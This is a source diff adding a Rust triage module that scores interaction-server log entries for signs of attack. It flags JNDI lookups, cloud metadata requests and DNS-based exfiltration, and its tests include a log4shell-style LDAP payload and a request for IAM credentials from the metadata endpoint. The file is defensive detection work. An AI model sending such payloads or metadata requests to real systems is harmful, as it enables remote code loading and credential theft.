@@ -0,0 +1,169 @@
+//! Simple heuristics for flagging interesting interaction logs during triage.
+//!
+//! These are a convenience layer only and are not meant to be used as a
+//! detection engine.
+
+use super::ParsedLogEntry;
+
+/// Markers of a JNDI lookup string (as used by log4shell style payloads)
+const JNDI_MARKERS: &[&str] = &["${jndi:", "jndi:ldap", "jndi:rmi", "jndi:dns"];
+
+/// Markers of a template lookup string that was not expanded by the target
+const LOOKUP_MARKERS: &[&str] = &["${", "%24%7b"];
+
+/// Markers of requests for cloud instance metadata endpoints (a common SSRF target)
+const CLOUD_METADATA_MARKERS: &[&str] = &[
+    "169.254.169.254",
+    "metadata.google.internal",
+    "/latest/meta-data",
+    "/computemetadata/",
+    "/metadata/instance",
+];
+
+/// DNS labels longer than this are likely carrying exfiltrated data
+const MAX_BENIGN_DNS_LABEL_LENGTH: usize = 40;
+
+/// DNS names with more labels than this in front of the unique ID are likely
+/// carrying exfiltrated data
+const MAX_BENIGN_DNS_PREFIX_LABELS: usize = 3;
+
+const JNDI_SCORE: u32 = 60;
+const LOOKUP_SCORE: u32 = 20;
+const LDAP_CALLBACK_SCORE: u32 = 30;
+const CLOUD_METADATA_SCORE: u32 = 60;
+const DNS_EXFIL_SCORE: u32 = 40;
+
+
+impl ParsedLogEntry {
+    /// Gets a rough 0-100 score of how likely it is that this interaction
+    /// was caused by a malicious payload, based on simple heuristics.
+    ///
+    /// The heuristics look for JNDI lookup strings, LDAP callbacks,
+    /// requests for cloud metadata endpoints, and DNS names that look like
+    /// they carry exfiltrated data. A high score is only a hint for triage.
+    pub fn suspicion_score(&self) -> u8 {
+        let raw_request = self.raw_request().to_ascii_lowercase();
+        let mut score = 0;
+
+        if contains_any(&raw_request, JNDI_MARKERS) {
+            score += JNDI_SCORE;
+        } else if contains_any(&raw_request, LOOKUP_MARKERS) {
+            score += LOOKUP_SCORE;
+        }
+
+        score += match self {
+            // LDAP callbacks to an interaction server are almost always JNDI lookups
+            ParsedLogEntry::Ldap { .. } => LDAP_CALLBACK_SCORE,
+            ParsedLogEntry::Http { .. } if contains_any(&raw_request, CLOUD_METADATA_MARKERS) => {
+                CLOUD_METADATA_SCORE
+            }
+            ParsedLogEntry::Dns {
+                unique_id, full_id, ..
+            } if is_suspicious_dns_name(full_id, unique_id) => DNS_EXFIL_SCORE,
+            _ => 0,
+        };
+
+        score.min(100) as u8
+    }
+}
+
+/// Checks if the text contains any of the markers
+fn contains_any(text: &str, markers: &[&str]) -> bool {
+    markers.iter().any(|marker| text.contains(marker))
+}
+
+/// Checks if the labels in front of the unique ID in a DNS name look like
+/// they carry exfiltrated data
+fn is_suspicious_dns_name(full_id: &str, unique_id: &str) -> bool {
+    let prefix = full_id
+        .to_ascii_lowercase()
+        .split(unique_id.to_ascii_lowercase().as_str())
+        .next()
+        .unwrap_or_default()
+        .trim_end_matches('.')
+        .to_owned();
+
+    if prefix.is_empty() {
+        return false;
+    }
+
+    let labels = prefix.split('.').collect::<Vec<_>>();
+
+    labels.len() > MAX_BENIGN_DNS_PREFIX_LABELS
+        || labels
+            .iter()
+            .any(|label| label.len() > MAX_BENIGN_DNS_LABEL_LENGTH)
+}
+
+
+#[cfg(test)]
+mod tests {
+    use time::OffsetDateTime;
+
+    use super::*;
+
+    const UNIQUE_ID: &str = "cfk3ajm2vtc0000g3zg0gf7sijyyyyyyb";
+
+    #[test]
+    fn log4shell_ldap_request_has_high_score() {
+        let log_entry = ParsedLogEntry::Ldap {
+            unique_id: UNIQUE_ID.into(),
+            full_id: UNIQUE_ID.into(),
+            raw_request: "Type=Search\nBaseDn=a\nFilter=(objectClass=*)\n\
+                          Payload=${jndi:ldap://cfk3ajm2vtc0000g3zg0gf7sijyyyyyyb.oast.pro/a}"
+                .into(),
+            raw_response: String::new(),
+            remote_address: "10.0.0.1".parse().unwrap(),
+            timestamp: OffsetDateTime::now_utc(),
+        };
+
+        assert!(log_entry.suspicion_score() >= 80);
+    }
+
+    #[test]
+    fn cloud_metadata_http_request_has_high_score() {
+        let log_entry = ParsedLogEntry::Http {
+            unique_id: UNIQUE_ID.into(),
+            full_id: UNIQUE_ID.into(),
+            raw_request: "GET /latest/meta-data/iam/security-credentials/ HTTP/1.1\r\n\
+                          Host: 169.254.169.254\r\n\r\n"
+                .into(),
+            raw_response: String::new(),
+            remote_address: "10.0.0.1".parse().unwrap(),
+            timestamp: OffsetDateTime::now_utc(),
+        };
+
+        assert!(log_entry.suspicion_score() >= 60);
+    }
+
+    #[test]
+    fn exfil_dns_query_has_raised_score() {
+        let exfil_label = "a".repeat(MAX_BENIGN_DNS_LABEL_LENGTH + 1);
+        let log_entry = ParsedLogEntry::Dns {
+            unique_id: UNIQUE_ID.into(),
+            full_id: format!("{}.{}", exfil_label, UNIQUE_ID),
+            q_type: None,
+            raw_request: String::new(),
+            raw_response: String::new(),
+            remote_address: "10.0.0.1".parse().unwrap(),
+            timestamp: OffsetDateTime::now_utc(),
+        };
+
+        assert_eq!(log_entry.suspicion_score(), DNS_EXFIL_SCORE as u8);
+    }
+
+    #[test]
+    fn benign_dns_query_has_low_score() {
+        let log_entry = ParsedLogEntry::Dns {
+            unique_id: UNIQUE_ID.into(),
+            full_id: UNIQUE_ID.into(),
+            q_type: None,
+            raw_request: format!(";; QUESTION SECTION:\n;{}.oast.pro.\tIN\t A", UNIQUE_ID),
+            raw_response: String::new(),
+            remote_address: "10.0.0.1".parse().unwrap(),
+            timestamp: OffsetDateTime::now_utc(),
+        };
+
+        assert!(log_entry.suspicion_score() < 20);
+    }
+}